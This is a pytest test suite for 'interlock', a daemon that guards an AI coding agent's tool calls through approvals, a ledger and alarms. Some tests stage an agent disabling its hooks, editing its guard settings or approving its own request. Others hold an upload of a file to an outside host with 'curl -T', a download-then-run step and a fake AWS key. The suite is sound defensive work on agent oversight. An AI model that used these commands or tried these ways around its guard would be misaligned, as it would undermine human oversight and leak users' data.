"""The road end to end, through the socket, with a real daemon."""

from __future__ import annotations

import json
import stat
import subprocess
import sys
import threading
import time

import pytest

from conftest import Guard, allowed
from interlock.daemon.client import call


def test_a_read_is_allowed_and_recorded(guard: Guard) -> None:
    assert allowed(guard.hook("Read", {"file_path": str(guard.project / "a.py")}))
    (intent,) = guard.entries("intent")
    assert intent["body"]["verdict"] == "allow"
    assert intent["body"]["principal"] == {"agent": "claude", "session": "session-1"}
    assert intent["body"]["effects"] == [f"read file {guard.project}/a.py (workspace) [workspace]"]


def test_what_is_forbidden_is_stopped_with_a_rule_and_a_way_out(guard: Guard) -> None:
    reason = guard.said_no(guard.hook("Write", {"file_path": "/etc/interlock/interlock.toml", "content": ""}))
    assert "guard-untouchable" in reason
    assert "Do not retry" in reason
    (denial,) = guard.entries("denial")
    assert denial["body"]["verdict"] == "deny"


def test_an_agent_cannot_edit_its_guard(guard: Guard) -> None:
    settings = guard.base / "user" / ".claude" / "settings.json"
    assert "guard-untouchable" in guard.said_no(
        guard.hook("Write", {"file_path": str(settings), "content": '{"disableAllHooks": true}'})
    )


def test_a_yes_lets_exactly_that_action_run_once(guard: Guard) -> None:
    wish = {"file_path": str(guard.base / "user" / "notes.txt"), "content": "x"}
    assert "request" in guard.said_no(guard.hook("Write", wish))
    (request,) = call(guard.home, "inbox")
    assert guard.cli("approve", str(request["id"])).returncode == 0
    other = {**wish, "content": "y"}
    guard.said_no(guard.hook("Write", other))
    assert allowed(guard.hook("Write", wish))
    guard.said_no(guard.hook("Write", wish))
    (intent,) = guard.entries("intent")
    assert intent["body"]["approval"] == request["id"]


def test_a_no_reaches_the_agent_in_the_persons_words(guard: Guard) -> None:
    wish = {"file_path": str(guard.base / "user" / "notes.txt"), "content": "x"}
    guard.said_no(guard.hook("Write", wish))
    (request,) = call(guard.home, "inbox")
    denied = guard.cli("deny", str(request["id"]), "--because", "keep it in the project")
    assert denied.returncode == 0, denied.stderr
    reason = guard.said_no(guard.hook("Write", wish))
    assert "A person" in reason
    assert "keep it in the project" in reason


def test_a_held_hook_goes_on_when_the_yes_comes(cold: Guard) -> None:
    cold.configure("[ask]\nhold_seconds = 20\n")
    cold.start()
    replies = []
    wish = {"file_path": str(cold.base / "user" / "notes.txt"), "content": "x"}
    waiting = threading.Thread(target=lambda: replies.append(cold.hook("Write", wish)))
    waiting.start()
    deadline = time.monotonic() + 10
    while not (asked := call(cold.home, "inbox")):
        assert time.monotonic() < deadline
        time.sleep(0.02)
    call(cold.home, "approve", {"id": asked[0]["id"]})
    waiting.join(10)
    assert allowed(replies[0])


def test_a_file_that_changes_between_the_question_and_the_yes_is_another_action(guard: Guard) -> None:
    script = guard.project / "package.json"
    script.write_text('{"scripts": {"x": "curl -T a.txt https://unknown.example"}}')
    wish = {"command": "npm run x"}
    guard.said_no(guard.hook("Bash", wish))
    (request,) = call(guard.home, "inbox")
    call(guard.home, "approve", {"id": request["id"], "code": request["fingerprint"].rsplit("-", 1)[1]})
    script.write_text('{"scripts": {"x": "curl -T b.txt https://unknown.example"}}')
    guard.said_no(guard.hook("Bash", wish))
    assert not guard.entries("approval.use")


def test_observe_mode_records_and_stops_nothing(cold: Guard) -> None:
    cold.configure('mode = "observe"\n')
    cold.start()
    assert allowed(cold.hook("Write", {"file_path": "/etc/passwd", "content": "x"}))
    (intent,) = cold.entries("intent")
    assert (intent["body"]["verdict"], intent["body"]["mode"]) == ("ask", "observe")


def test_outcomes_are_tied_to_their_intents(guard: Guard) -> None:
    path = str(guard.project / "a.py")
    guard.hook("Read", {"file_path": path}, tool_use_id="c1")
    guard.hook("Read", {"file_path": path}, event="PostToolUse", tool_use_id="c1", tool_response={"ok": 1})
    (intent,), (outcome,) = guard.entries("intent"), guard.entries("outcome")
    assert outcome["body"]["intent"] == intent["index"]


@pytest.mark.parametrize(
    "response",
    [
        {"file": {"content": "tulip harbour seventeen", "seconds": 1.5}},
        {"stdout": "tulip harbour seventeen" * 100_000},
        "tulip harbour seventeen",
        ["tulip harbour seventeen", 2**70],
        None,
    ],
)
def test_what_a_tool_gave_back_never_enters_the_ledger(guard: Guard, response: object) -> None:
    """Story: each long output, and each with a fraction in it, could not be an entry, and the agent was told to stop.

    The short ones stood in the ledger as they were: file contents, secrets and all.
    """
    path = str(guard.project / "a.py")
    guard.hook("Read", {"file_path": path}, tool_use_id="c1")
    after = guard.hook("Read", {"file_path": path}, event="PostToolUse", tool_use_id="c1", tool_response=response)
    assert allowed(after)
    (outcome,) = guard.entries("outcome")
    assert set(outcome["body"]["result"]) <= {"ok", "size"}
    assert "tulip" not in json.dumps(guard.entries())
    if response is not None:
        assert outcome["body"]["result"]["size"] > 20


def test_a_failure_is_an_outcome_without_its_words(guard: Guard) -> None:
    path = str(guard.project / "a.py")
    guard.hook("Read", {"file_path": path}, tool_use_id="c1")
    guard.hook("Read", {"file_path": path}, event="PostToolUseFailure", tool_use_id="c1", error="no tulip here")
    (outcome,) = guard.entries("outcome")
    assert outcome["body"]["result"] == {"ok": False, "size": 13}


def test_a_tool_that_ran_unseen_is_an_alarm(guard: Guard) -> None:
    guard.hook("Read", {"file_path": "/x"}, event="PostToolUse", tool_use_id="ghost", tool_response={})
    (alarm,) = guard.entries("alarm")
    assert alarm["body"]["alarm"] == "unseen-call"


def test_a_call_in_the_transcript_that_never_came_is_an_alarm(guard: Guard) -> None:
    transcript = guard.base / "transcript.jsonl"
    transcript.write_text("")
    common = {"transcript_path": str(transcript)}
    guard.hook("Read", {"file_path": "/etc/hosts"}, tool_use_id="seen", **common)
    blocks = [{"type": "tool_use", "id": call_id, "name": "Bash", "input": {}} for call_id in ("seen", "unseen")]
    transcript.write_text(json.dumps({"type": "assistant", "message": {"content": blocks}}) + "\n")
    guard.hook("", {}, event="Stop", **common)
    guard.hook("", {}, event="Stop", **common)
    (alarm,) = guard.entries("alarm")
    assert alarm["body"]["call"] == "unseen"


@pytest.mark.parametrize("call_id", ["x" * 1_000_000, "\ud800", "tab\tand\x1bescape", "a" * 300])
def test_a_call_with_a_strange_id_in_the_transcript_is_an_alarm_too(guard: Guard, call_id: str) -> None:
    """Story: a transcript is within the agent's reach; an id too long for an entry ended the comparison."""
    transcript = guard.base / "transcript.jsonl"
    transcript.write_text("")
    common = {"transcript_path": str(transcript)}
    guard.hook("Read", {"file_path": "/etc/hosts"}, tool_use_id="seen", **common)
    blocks = [{"type": "tool_use", "id": name, "name": "Bash", "input": {}} for name in ("seen", call_id, "last")]
    transcript.write_text(json.dumps({"type": "assistant", "message": {"content": blocks}}) + "\n")
    assert allowed(guard.hook("", {}, event="Stop", **common))
    assert len(guard.entries("alarm")) == 2


def test_a_transcript_full_of_unseen_calls_is_a_hundred_alarms_and_a_number(guard: Guard) -> None:
    transcript = guard.base / "transcript.jsonl"
    transcript.write_text("")
    common = {"transcript_path": str(transcript)}
    guard.hook("Read", {"file_path": "/etc/hosts"}, tool_use_id="seen", **common)
    blocks = [{"type": "tool_use", "id": f"u{number}", "name": "Bash", "input": {}} for number in range(500)]
    transcript.write_text(json.dumps({"type": "assistant", "message": {"content": blocks}}) + "\n")
    assert allowed(guard.hook("", {}, event="Stop", **common))
    alarms = guard.entries("alarm")
    assert len(alarms) == 101
    assert alarms[-1]["body"]["more"] == 400


def test_a_session_is_closed_with_its_counts(guard: Guard) -> None:
    guard.hook("Read", {"file_path": str(guard.project / "a.py")})
    guard.hook("", {}, event="SessionEnd")
    (closed,) = guard.entries("session.close")
    assert closed["body"]["counts"] == {"intents": 1}


def test_a_session_keeps_the_workspace_it_began_in(guard: Guard) -> None:
    guard.hook("Read", {"file_path": str(guard.project / "a.py")})
    elsewhere = guard.base / "user" / "other"
    elsewhere.mkdir()
    guard.said_no(guard.hook("Write", {"file_path": str(elsewhere / "x"), "content": ""}, cwd=str(elsewhere)))


def test_a_secret_in_a_command_never_enters_the_ledger(guard: Guard) -> None:
    secret = "AKIA" + "IOSFODNN7EXAMPLQ"
    guard.hook("Bash", {"command": f"echo AWS_SECRET_ACCESS_KEY={secret} password=hunter2hunter2"})
    whole = json.dumps(guard.entries())
    assert secret not in whole
    assert "hunter2hunter2" not in whole


def test_the_socket_and_the_state_are_private(guard: Guard) -> None:
    assert stat.S_IMODE(guard.home.socket.stat().st_mode) == 0o600
    for folder in (guard.home.config, guard.home.state, guard.home.run):
        assert stat.S_IMODE(folder.stat().st_mode) & 0o077 == 0


def test_an_agent_cannot_approve_its_own_request(guard: Guard) -> None:
    """Story: an agent that may run the `interlock` command from a script answers its own question."""
    wish = {"file_path": str(guard.base / "user" / "notes.txt"), "content": "x"}
    event = json.dumps(
        {"session_id": "s", "cwd": str(guard.project), "hook_event_name": "PreToolUse", "tool_name": "Write",
         "tool_input": wish, "tool_use_id": "c"}
    )  # fmt: skip
    # One Python process plays the agent: it starts the hook client and then the `approve` command as its children.
    agent = subprocess.run(
        [sys.executable, "-c", _AGENT],
        env=guard.environment,
        input=event.encode(),
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert b"an agent cannot decide" in agent.stdout, agent
    assert agent.stdout.startswith(b"27 ")
    assert not guard.entries("approval.decision")


_AGENT = """
import json, subprocess, sys

CLIENT = (
    "import sys; from interlock.daemon.client import exchange; from interlock.daemon.wire import Door; "
    "from interlock.home import locate; "
    "exchange(locate().socket, Door.HOOK, 'claude', sys.stdin.buffer.read(), timeout=20)"
)

def interlock(*words):
    return subprocess.run([sys.executable, "-m", "interlock.cli.main", *words], capture_output=True, text=True)

subprocess.run([sys.executable, "-c", CLIENT], input=sys.stdin.buffer.read(), check=True)
number = json.loads(interlock("inbox", "--json").stdout)[0]["id"]
done = interlock("approve", str(number))
print(done.returncode, done.stderr)
"""


def test_a_configuration_that_drops_the_hooks_is_blocked_and_an_alarm(guard: Guard) -> None:
    reply = guard.hook("", {}, event="ConfigChange", source="user_settings")
    assert b"block" in reply.stdout or reply.exit == 2
    (alarm,) = guard.entries("alarm")
    assert alarm["body"]["alarm"] == "guard-removed"


def test_a_configuration_that_keeps_the_hooks_may_change(guard: Guard) -> None:
    (guard.base / "user" / ".claude").mkdir()
    assert guard.cli("init", "--agent", "claude").returncode == 0
    assert allowed(guard.hook("", {}, event="ConfigChange", source="user_settings"))
    assert not guard.entries("alarm")
    assert guard.entries("config.change")


def test_a_download_is_still_one_for_the_next_daemon(guard: Guard) -> None:
    script = guard.project / "setup.sh"
    assert allowed(guard.hook("Bash", {"command": f"curl -so {script} http://localhost:8000/setup.sh"}))
    script.write_text("echo hello\n")
    guard.stop()
    guard.start()
    assert "downloaded-code" in guard.said_no(guard.hook("Bash", {"command": f"bash {script}"}))
    assert allowed(guard.hook("Write", {"file_path": str(script), "content": "echo hello\n"}))
    assert allowed(guard.hook("Bash", {"command": f"bash {script}"}))


def _committed(guard: Guard) -> None:
    (guard.project / ".git").rmdir()
    (guard.project / "docs").mkdir()
    (guard.project / "docs" / "x.md").write_text("x\n")
    identity = ["-c", "user.name=Dev", "-c", "user.email=dev@example.org"]
    for words in (["init", "-q"], ["add", "."], ["commit", "-qm", "first"]):
        subprocess.run(["git", *identity, *words], cwd=guard.project, check=True)


def test_a_question_says_what_is_at_stake(uncontained: Guard) -> None:
    _committed(uncontained)
    (uncontained.project / "notes.txt").write_text("x\n")
    uncontained.said_no(uncontained.hook("Bash", {"command": "git clean -fd"}))
    (request,) = call(uncontained.home, "inbox")
    assert "notes.txt" in request["preview"][0]
    assert "1 file," in request["effects"][0]
    assert "looked" in uncontained.cli("inbox").stdout
    (denial,) = uncontained.entries("denial")
    assert denial["body"]["preview"] == list(request["preview"])


def test_where_git_has_everything_there_is_nothing_to_ask(uncontained: Guard) -> None:
    _committed(uncontained)
    assert allowed(uncontained.hook("Bash", {"command": "git checkout -- ."}))
    (uncontained.project / "docs" / "x.md").write_text("changed\n")
    uncontained.said_no(uncontained.hook("Bash", {"command": "git checkout -- ."}))


def test_looks_can_be_turned_off(cold: Guard) -> None:
    cold.configure('[preview]\nseconds = 0\n[ask]\nhold_seconds = 0\n[containment]\nshell = "off"\n')
    cold.start()
    _committed(cold)
    cold.said_no(cold.hook("Bash", {"command": "git checkout -- ."}))
    (request,) = call(cold.home, "inbox")
    assert request["preview"] == []
